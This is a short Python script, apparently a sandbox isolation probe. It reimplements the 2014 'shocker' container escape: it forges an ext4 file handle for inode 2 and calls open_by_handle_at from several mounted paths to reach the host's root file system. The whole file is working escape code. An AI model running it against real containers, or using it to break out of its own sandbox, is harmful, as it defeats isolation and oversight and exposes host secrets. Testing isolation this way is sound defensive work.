"""Opens the host's root folder by its file handle, past every mount.

From: the "shocker" of 2014, which read `/etc/shadow` out of docker.
"""

import ctypes
import os
import struct

from evidence import attempt, done, syscall

for path in ("/usr", "/forge/inputs/data", "/forge/scratch", "/forge/messages"):
    fd = os.open(path, os.O_PATH)
    # of type 1 (FILEID_INO32_GEN), 8 bytes: inode 2 is the root of an ext4 file system
    forged = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0), 136)
    attempt(
        f"handle of {path}",
        syscall,
        "name_to_handle_at",
        fd,
        b"",
        ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136),
        ctypes.byref(ctypes.c_int()),
        0x1000,
    )
    attempt(f"root of {path}", syscall, "open_by_handle_at", fd, forged, os.O_RDONLY)
done()
